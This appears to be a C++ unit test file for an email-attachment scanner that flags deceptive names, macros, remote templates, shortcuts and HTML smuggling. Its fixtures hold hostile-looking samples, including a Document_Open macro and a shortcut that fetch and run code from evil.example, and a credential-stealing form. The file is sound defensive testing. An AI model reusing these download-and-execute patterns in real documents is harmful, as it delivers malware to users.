#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/worker.h"
#include "guard/inspect/files/file_facts.h"
#include "guard/inspect/files/made_files.h"
#include "guard/inspect/files/packed_rtf.h"
#include "guard/inspect/files/zip.h"

namespace rampart::guard::files {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;
using testing::UnorderedElementsAre;

FileFacts look(std::string_view name, std::string_view bytes, std::string_view declared = {}) {
  Budget budget;
  return look_at_file({.name = name, .declared_type = declared, .bytes = bytes}, budget);
}

std::vector<std::string> facts_of(const FileFacts& facts) {
  std::vector<std::string> out;
  for (std::size_t i = 0; i < kFileFacts; ++i) {
    const auto fact = static_cast<FileFact>(i);
    if (facts.is_own(fact)) out.emplace_back(to_string(fact));
    if (facts.is_inside(fact)) out.push_back("in:" + std::string(to_string(fact)));
  }
  for (std::size_t i = 0; i < kUnseens; ++i)
    if (facts.is_unseen(static_cast<Unseen>(i)))
      out.push_back("?" + std::string(to_string(static_cast<Unseen>(i))));
  return out;
}

std::string evidence(const FileFacts& facts, FileFact fact) {
  for (const auto& each : facts.evidence)
    if (each.fact == fact) return each.path + ": " + each.text;
  return {};
}

std::vector<std::string> urls(const FileFacts& facts) {
  std::vector<std::string> out;
  for (const auto& link : facts.links)
    out.push_back(std::string(to_string(link.origin)) + (link.is_loaded ? "! " : " ") + link.url);
  return out;
}

TEST(Files, NothingOfOrdinaryFiles) {
  EXPECT_THAT(facts_of(look("photo.jpg", "\xff\xd8\xff\xe0....", "image/jpeg")), IsEmpty());
  EXPECT_THAT(facts_of(look("notes.txt", "Hello\n", "text/plain")), IsEmpty());
  EXPECT_THAT(facts_of(look("report.pdf", "%PDF-1.7\n", "application/pdf")), IsEmpty());
  EXPECT_THAT(facts_of(look("invite.ics", "BEGIN:VCALENDAR\r\n", "text/calendar")), IsEmpty());
  EXPECT_THAT(facts_of(look("letter.docx", made::docx({}))), IsEmpty());
  EXPECT_THAT(facts_of(look("sheet.xls", made::compound({{"Workbook", std::string(5'000, '\0')}}))),
              IsEmpty());
  EXPECT_THAT(facts_of(look("", "")), IsEmpty());
}

TEST(Files, NamesThatLie) {
  EXPECT_THAT(facts_of(look("invoice.pdf.exe", made::program(), "application/pdf")),
              ElementsAre("dangerous-name", "double-ending", "wrong-declared", "executable"));
  EXPECT_THAT(facts_of(look("invoice.pdf", made::program())), ElementsAre("wrong-ending", "executable"));
  EXPECT_THAT(facts_of(look("invoice.pdf          .exe", "x")),
              ElementsAre("dangerous-name", "double-ending", "padded-name"));
  EXPECT_THAT(facts_of(look("invoice\xe2\x80\xae"
                            "fdp.scr",
                            "x")),
              ElementsAre("dangerous-name", "bidi-name"));
  EXPECT_THAT(facts_of(look("inv\xe2\x80\x8boice.txt", "x")), ElementsAre("hidden-name"));
  // Urdu with its joiner and its marks.
  EXPECT_THAT(facts_of(look("رپورٹ\xe2\x80\x8cنمبر\xe2\x80\x8f.txt", "x")), IsEmpty());
  EXPECT_THAT(facts_of(look("scan.png", "\xff\xd8\xff\xe0....", "image/png")), IsEmpty());
  // What opens it goes by its name, whatever it begins with.
  EXPECT_EQ(look("a.html", "GIF89a<html><script>1</script>").type, FileType::html);
  EXPECT_EQ(look("a.html", "<html><!-- %PDF-1.4 -->").type, FileType::html);
  EXPECT_EQ(look("a.pdf", "\n%PDF-1.4").type, FileType::pdf);
  EXPECT_THAT(facts_of(look("a.pdf", "-----BEGIN PGP MESSAGE-----")), ElementsAre("?encrypted"));
  EXPECT_THAT(facts_of(look("old.doc", "{\\rtf1 hello}")), IsEmpty());
}

TEST(Files, ArchivesAreLookedInto) {
  const made::Entries entries = {{"a/readme.txt", "hello"}, {"a/invoice.pdf.js", "new ActiveXObject('x')"}};
  const std::vector<std::pair<std::string, std::string>> archives = {
      {"a.zip", made::zip(entries)},
      {"a.7z", made::archive(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, entries)},
      {"a.tar", made::archive(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, entries)},
      {"a.tar.gz", made::archive(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, entries)},
      {"a.tar.xz", made::archive(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_XZ, entries)},
      {"a.tar.zst", made::archive(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_ZSTD, entries)},
      {"a.tar.bz2", made::archive(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_BZIP2, entries)}};
  for (const auto& [name, bytes] : archives) {
    const auto facts = look(name, bytes);
    EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:double-ending", "in:script", "archive"))
        << name;
    EXPECT_THAT(facts.names, UnorderedElementsAre(name + "/a/readme.txt", name + "/a/invoice.pdf.js"))
        << name;
    EXPECT_EQ(evidence(facts, FileFact::script), name + "/a/invoice.pdf.js: javascript");
    EXPECT_TRUE(facts.holds(FileType::javascript) && facts.holds(FileType::text));
  }
  const auto iso = look("a.iso", made::archive(ARCHIVE_FORMAT_ISO9660, ARCHIVE_FILTER_NONE, entries));
  EXPECT_THAT(facts_of(iso), ElementsAre("in:dangerous-name", "in:double-ending", "in:script", "disk-image"));
}

std::string look_shut_in(std::string_view request) {
  const auto line = request.find('\n');
  return fmt::format("{}", fmt::join(facts_of(look(request.substr(0, line), request.substr(line + 1))), " "));
}

// Where no file can be opened: neither tables of character sets nor of time zones.
TEST(Files, InAWorkerNothingIsMissing) {
  const made::Entries entries = {{"a.txt", "hello"}, {"\xd8\xb1\xd9\xbe.pdf.js", "new ActiveXObject('x')"}};
  const made::Entries archives = {
      {"a.zip", made::zip(entries)},
      {"a.iso", made::archive(ARCHIVE_FORMAT_ISO9660, ARCHIVE_FILTER_NONE, entries)},
      {"a.7z", made::archive(ARCHIVE_FORMAT_7ZIP, ARCHIVE_FILTER_NONE, entries)},
      {"a.tar.xz", made::archive(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_XZ, entries)},
      {"a.html", "<script>location='https://evil.example/'</script>"}};
  prepare_files();
  auto worker = base::Worker::start(&look_shut_in, {});
  ASSERT_TRUE(worker);
  for (const auto& [name, bytes] : archives) {
    const auto request = name + "\n" + bytes;
    const auto reply = worker->call(request);
    ASSERT_TRUE(reply);
    EXPECT_EQ(reply->fault, "") << name;
    EXPECT_EQ(reply->bytes, look_shut_in(request)) << name;
    EXPECT_THAT(reply->bytes, testing::HasSubstr("script")) << name;
  }
}

TEST(Files, OneFilePackedAlone) {
  const auto gzip = made::archive(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, {{"x", made::program()}});
  const auto facts = look("scan.exe.gz", gzip);
  EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:executable", "archive"));
  EXPECT_THAT(facts.names, ElementsAre("scan.exe.gz/scan.exe"));
}

TEST(Files, NamesInAnEncryptedArchive) {
  const auto bytes =
      made::zip({{"payment.exe", made::program()}, {"b.txt", "hello"}}, "zip:encryption=zipcrypt");
  const auto facts = look("a.zip", bytes);
  EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:executable", "archive",
                                           "encrypted-archive", "?encrypted"));
  EXPECT_THAT(facts.names, ElementsAre("a.zip/payment.exe", "a.zip/b.txt"));
  const auto aes = look("a.zip", made::zip({{"payment.exe", made::program()}}, "zip:encryption=aes256"));
  EXPECT_TRUE(aes.is_own(FileFact::encrypted_archive) && aes.is_unseen(Unseen::encrypted));
}

TEST(Files, WhatIsFoundIsHandedOn) {
  const auto inner = made::zip({{"b.pdf", "%PDF-1.4"}, {"c.html", "<html><p>hi"}});
  const auto bytes = made::zip({{"in/inner.zip", inner}});
  std::vector<std::string> found;
  Budget budget;
  const auto facts =
      look_at_file({.name = "a.zip", .declared_type = {}, .bytes = bytes}, budget, [&](const Found& each) {
        found.push_back(fmt::format("{} {} {} {} {}", each.path, each.name, to_string(each.type), each.depth,
                                    each.page == nullptr ? "-" : each.page->text));
      });
  EXPECT_THAT(found, ElementsAre("a.zip a.zip zip 0 -", "a.zip/in/inner.zip in/inner.zip zip 1 -",
                                 "a.zip/in/inner.zip/b.pdf b.pdf pdf 2 -",
                                 "a.zip/in/inner.zip/c.html c.html html 2 hi"));
  EXPECT_THAT(facts_of(facts), ElementsAre("archive", "in:nested-archive", "in:web-page"));
  EXPECT_LT(budget.bytes, Budget{}.bytes - inner.size());
}

TEST(Files, DepthIsBounded) {
  std::string bytes = made::zip({{"x.exe", made::program()}});
  for (int i = 0; i < 3; ++i) bytes = made::zip({{"in.zip", bytes}});
  const auto facts = look("a.zip", bytes);
  EXPECT_THAT(facts_of(facts), ElementsAre("archive", "in:nested-archive", "?too-deep"));
  EXPECT_EQ(facts.not_seen[0].path, "a.zip/in.zip/in.zip/in.zip");
}

TEST(Files, BrokenDirectoryOfAZip) {
  const auto whole = made::zip({{"a.txt", "hello"}, {"b.exe", made::program()}});
  const auto cut = whole.substr(0, whole.rfind("PK\1\2"));
  const auto facts = look("a.zip", cut);
  EXPECT_TRUE(facts.is_unseen(Unseen::damaged));
  EXPECT_THAT(facts.names, testing::Contains("a.zip/b.exe"));
  // Bytes before the zip, as a self-extracting one has.
  const auto behind = "#!/bin/sh\n" + whole;
  const auto zip = Zip::read(behind, 10);
  ASSERT_EQ(zip.entries.size(), 2U);
  EXPECT_FALSE(zip.is_damaged);
  EXPECT_EQ(zip.unpack(zip.entries[0], 10, 10)->bytes, "hello");
}

TEST(Files, MacrosOfOlderDocuments) {
  const auto facts = look(
      "a.doc", made::compound({{"WordDocument", std::string(5'000, '\0')},
                               {"Macros/VBA/dir", "x"},
                               {"Macros/VBA/_VBA_PROJECT", "x"},
                               {"Macros/VBA/ThisDocument",
                                made::vba_module("Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run "
                                                 "\"http://evil.example/a.exe\"\r\nEnd Sub\r\n")}}));
  EXPECT_EQ(facts.type, FileType::ole_word);
  EXPECT_THAT(facts_of(facts), ElementsAre("macros", "auto-macro", "macro-command"));
  EXPECT_EQ(evidence(facts, FileFact::auto_macro), "a.doc: document_open");
  EXPECT_EQ(evidence(facts, FileFact::macro_command), "a.doc: wscript.shell");
  EXPECT_THAT(urls(facts), ElementsAre("macro http://evil.example/a.exe"));
  // Its source was taken away, its compiled code was not.
  const auto wiped = look("a.doc", made::compound({{"WordDocument", std::string(5'000, '\0')},
                                                   {"Macros/VBA/dir", "x"},
                                                   {"Macros/VBA/ThisDocument", "compiled"}}));
  EXPECT_THAT(facts_of(wiped), ElementsAre("macros", "?damaged"));
}

TEST(Files, OlderDocumentsOtherwise) {
  auto word = std::string(5'000, '\0');
  word[11] = '\1';
  EXPECT_THAT(facts_of(look("a.doc", made::compound({{"WordDocument", word}}))),
              ElementsAre("locked-document", "?encrypted"));
  EXPECT_THAT(facts_of(look("a.docx", made::compound({{"EncryptedPackage", "x"}, {"EncryptionInfo", "x"}}))),
              ElementsAre("locked-document", "?encrypted"));
  const auto sheet = made::le(0x0809, 2) + made::le(2, 2) + "xx" + made::le(0x0085, 2) + made::le(8, 2) +
                     std::string(5, '\0') + "\1\0x" + made::le(0x000a, 2) + made::le(0, 2) +
                     std::string(5'000, '\0');
  EXPECT_THAT(facts_of(look("a.xls", made::compound({{"Workbook", sheet}}))), ElementsAre("old-macros"));
  const auto object = made::package("C:\\x\\run.vbs", "MsgBox 1");
  const auto facts =
      look("a.doc", made::compound({{"WordDocument", std::string(5'000, '\0')},
                                    {"ObjectPool/_1/\1Ole10Native", made::le(object.size(), 4) + object},
                                    {"ObjectPool/_2/Equation Native", "x"}}));
  EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:script", "embedded-object",
                                           "embedded-program", "equation-object"));
  EXPECT_EQ(look("a.msi", made::compound({{"x", "y"}},
                                         std::string_view("\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 16)))
                .type,
            FileType::msi);
}

TEST(Files, MessagesOfOutlook) {
  const auto facts =
      look("a.msg",
           made::compound({{"__properties_version1.0", "x"},
                           {"__attach_version1.0_#00000000/__substg1.0_37010102", made::program()},
                           {"__attach_version1.0_#00000000/__substg1.0_3707001F", made::wide("bill.exe")}}));
  EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:executable", "mail-in-file"));
  EXPECT_EQ(evidence(facts, FileFact::executable), "a.msg/bill.exe: pe");
}

TEST(Files, DocumentsThatAreZips) {
  const auto project =
      made::compound({{"VBA/dir", "x"}, {"VBA/Module1", made::vba_module("Sub AutoOpen()\r\nEnd Sub\r\n")}});
  EXPECT_THAT(facts_of(look("a.docx", made::docx({{"word/anything.bin", project}}))),
              ElementsAre("macros", "auto-macro"));
  const auto remote = look(
      "a.docx", made::docx({{"word/_rels/settings.xml.rels",
                             made::relations("attachedTemplate", "https://evil.example/t.dotm?a=1&amp;b")}}));
  EXPECT_THAT(facts_of(remote), ElementsAre("remote-template"));
  EXPECT_THAT(urls(remote), ElementsAre("document! https://evil.example/t.dotm?a=1&b"));
  const auto link = look(
      "a.docx",
      made::docx({{"word/_rels/document.xml.rels", made::relations("hyperlink", "https://a.example/")}}));
  EXPECT_THAT(facts_of(link), IsEmpty());
  EXPECT_THAT(urls(link), ElementsAre("document https://a.example/"));
  EXPECT_THAT(
      facts_of(look("a.docx", made::docx({{"word/_rels/document.xml.rels",
                                           made::relations("oleObject", "mhtml:http://evil.example/x!y")}}))),
      ElementsAre("remote-object"));
  EXPECT_THAT(facts_of(look(
                  "a.docx",
                  made::docx({{"word/footer1.xml",
                               "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"}}))),
              ElementsAre("dde"));
  EXPECT_THAT(facts_of(look("a.docx", made::docx({{"word/activeX/activeX1.xml", "<x/>"}}))),
              ElementsAre("active-x"));
  EXPECT_THAT(facts_of(look("a.docx", made::docx({{"word/embeddings/x.exe", made::program()}}))),
              ElementsAre("in:dangerous-name", "in:executable", "embedded-object"));
  EXPECT_THAT(facts_of(look("a.docx", made::docx({{"word/afchunk.html", "<html><script>1"}}))),
              ElementsAre("in:web-page", "in:page-script"));
  const auto picture = made::docx({{"word/media/image1.png", "\x89PNG\r\n\x1a\n"}});
  std::size_t pictures = 0;
  Budget budget;
  look_at_file({.name = "a.docx", .declared_type = {}, .bytes = picture}, budget,
               [&](const Found& each) { pictures += each.type == FileType::png ? 1 : 0; });
  EXPECT_EQ(pictures, 1U);
}

TEST(Files, RichText) {
  EXPECT_THAT(facts_of(look("a.doc", "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}")),
              ElementsAre("rtf-objects", "rtf-update"));
  std::string hex;
  for (const char c : made::le(0x501, 4) + made::le(2, 4) + made::le(11, 4) + std::string("Equation.3\0", 11))
    hex += fmt::format("{:02x}\n", static_cast<unsigned char>(c));
  EXPECT_THAT(facts_of(look("a.rtf", "{\\rtf1{\\object{\\*\\objdata{\\junk9 }" + hex + "}}}")),
              ElementsAre("embedded-object", "equation-object", "rtf-objects"));
  const auto facts = look("a.rtf",
                          "{\\rtf1{\\*\\template http://evil.example/t}{\\field{\\*\\fldinst HYPERLINK "
                          "\"https://a.example/\"}}}");
  EXPECT_THAT(facts_of(facts), ElementsAre("remote-template"));
  EXPECT_THAT(urls(facts), ElementsAre("document! http://evil.example/t", "document https://a.example/"));
}

TEST(Files, Shortcuts) {
  const auto facts = look(
      "a.lnk", made::lnk("..\\..\\Windows\\System32\\cmd.exe", "/c powershell iwr https://evil.example/a"));
  EXPECT_THAT(facts_of(facts), ElementsAre("shortcut", "shortcut-command", "remote-shortcut"));
  EXPECT_EQ(evidence(facts, FileFact::shortcut_command),
            "a.lnk: ..\\..\\Windows\\System32\\cmd.exe /c powershell iwr https://evil.example/a");
  const auto url =
      look("a.url",
           "[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\nIconFile=\\\\evil.example\\i\r\n");
  EXPECT_THAT(facts_of(url), ElementsAre("shortcut", "remote-shortcut"));
  EXPECT_THAT(facts_of(look("a.url", "[InternetShortcut]\r\nURL=https://a.example/\r\n")),
              ElementsAre("shortcut"));
  EXPECT_THAT(facts_of(look("a.scf", "\1\2")), ElementsAre("shortcut")) << "by its name alone";
  EXPECT_THAT(urls(url),
              ElementsAre("shortcut file://evil.example/share/x.exe", "shortcut! \\\\evil.example\\i"));
}

TEST(Files, FilesInNotes) {
  EXPECT_THAT(facts_of(look("a.one", made::onenote({"\x89PNG\r\n\x1a\n"}))), IsEmpty());
  EXPECT_THAT(
      facts_of(look("a.one", made::onenote({"<html><hta:application>"}) + made::wide("open.hta"))),
      ElementsAre("in:dangerous-name", "in:script", "note-with-file", "in:web-page", "embedded-program"));
}

TEST(Files, AttachmentsOfTnef) {
  const auto facts =
      look("winmail.dat", made::tnef({{"report of may.pdf", "%PDF-1.4"}, {"run.exe", made::program()}}));
  EXPECT_THAT(facts.names, ElementsAre("winmail.dat/report of may.pdf", "winmail.dat/run.exe"));
  EXPECT_THAT(facts_of(facts), ElementsAre("in:dangerous-name", "in:executable"));
}

TEST(Files, TextOfTnef) {
  // [MS-OXRTFCP] 4.1.1
  const std::string packed(
      "\x2d\0\0\0\x2b\0\0\0\x4c\x5a\x46\x75\xf1\xc5\xc7\xa7\x03\0\x0a\0\x72\x63\x70\x67\x31\x32\x35\x42\x32"
      "\x0a\xf3\x20"
      "\x68\x65\x6c\x09\0\x20\x62\x77\x05\xb0\x6c\x64\x7d\x0a\x80\x0f\xa0",
      49);
  EXPECT_EQ(unpack_rtf(packed, 1'000), "{\\rtf1\\ansi\\ansicpg1252\\pard hello world}\r\n");
  const std::string rtf = "{\\rtf1\\fromhtml1{\\*\\htmltag64 <a href=\"https://a.example/\">}link}";
  const auto plain = made::le(rtf.size() + 12, 4) + made::le(rtf.size(), 4) + "MELA" + made::le(0, 4) + rtf;
  const auto facts = look("winmail.dat", made::tnef({}, plain));
  EXPECT_THAT(facts_of(facts), IsEmpty());
  EXPECT_TRUE(facts.holds(FileType::rtf));
  EXPECT_THAT(urls(facts), ElementsAre("document https://a.example/"));
}

TEST(Files, Pages) {
  EXPECT_THAT(
      facts_of(look("a.html", "<html><form action='https://evil.example/p'><input type=password></form>")),
      ElementsAre("web-page", "credential-form"));
  EXPECT_THAT(
      facts_of(look("a.html",
                    "<script>var b=new Blob([new Uint8Array(x)]);a.href=URL.createObjectURL(b)</script>")),
      ElementsAre("web-page", "smuggling", "page-script"));
  EXPECT_THAT(facts_of(look("a.htm", "<script>document.write(unescape('%3c'))</script>")),
              ElementsAre("web-page", "page-script", "encoded-page"));
  const auto refresh = look("a.html", "<meta http-equiv=refresh content='0;url=https://evil.example/'>");
  EXPECT_THAT(facts_of(refresh), ElementsAre("web-page", "page-redirect"));
  EXPECT_THAT(urls(refresh), ElementsAre("page! https://evil.example/"));
  EXPECT_THAT(facts_of(look("a.svg", "<?xml version='1.0'?><svg><circle/></svg>", "image/svg+xml")),
              IsEmpty());
  EXPECT_THAT(
      facts_of(look("a.svg", "<svg onload='x()'><a href='https://evil.example/'/></svg>", "image/svg+xml")),
      ElementsAre("svg-script", "svg-link"));
  EXPECT_THAT(facts_of(look("a.svg", "<svg><foreignObject/></svg>")), ElementsAre("svg-script"));
  // UTF-16, and a page that is called an image.
  EXPECT_THAT(facts_of(look("a.png", "\xff\xfe" + made::wide("<html><script>1</script>"), "image/png")),
              ElementsAre("wrong-ending", "wrong-declared", "web-page", "page-script"));
}

}  // namespace
}  // namespace rampart::guard::files
